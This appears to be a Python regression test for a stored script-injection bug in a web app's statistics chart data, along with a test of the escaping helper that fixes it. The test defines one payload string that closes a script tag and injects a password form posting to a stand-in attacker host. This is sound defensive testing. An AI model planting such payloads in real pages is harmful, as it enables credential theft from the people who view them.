"""Names reach the pages' chart data unescaped (issue 12, attack12 probe): the statistics, performance, cockpit and wall
pages put their chart data in ``<script type="application/json">`` with ``|safe``, so a name holding ``</script>``
— a window, item, department or hall name an administrator writes through the catalog — closed the element and the
rest was HTML in the page of whoever reads the statistics (the hall manager, the auditor): a stored injection across
the administrator ⟂ auditor line. The chart data is now written with ``<``, ``>`` and ``&`` escaped."""

from __future__ import annotations

import json
import re

from sqlalchemy import text

from tests.conftest import auth
from tests.evaluation.test_stats import _rate

EVIL = '</script><form id="pwn" action="https://evil.example/"><input name="password"></form><script>'


def test_a_window_name_with_a_closing_script_tag_stays_inside_the_chart_data(env, client, services):
    with env.db.unit_of_work() as session:
        session.execute(text("UPDATE org_window SET name = :n WHERE code = 'H-690102-W01'"), {"n": EVIL})
    _rate(client, services, 1, 5)
    page = client.get("/evaluation/stats?group_by=window", headers=auth(client, "hallmanager1"))
    assert page.status_code == 200, page.text[:300]
    data = re.search(r'<script type="application/json" id="chart-data">(.*?)</script>', page.text, re.S)
    assert data is not None
    assert EVIL in json.loads(data.group(1))["labels"]  # the name is there, as data
    assert '<form id="pwn"' not in page.text


def test_script_json_escapes_what_could_end_the_element():
    from smarthall.web.templating import script_json

    written = script_json({"a": "</script><!-- & \u2028"})
    assert "<" not in written and ">" not in written and "&" not in written and "\u2028" not in written
    assert json.loads(written) == {"a": "</script><!-- & \u2028"}
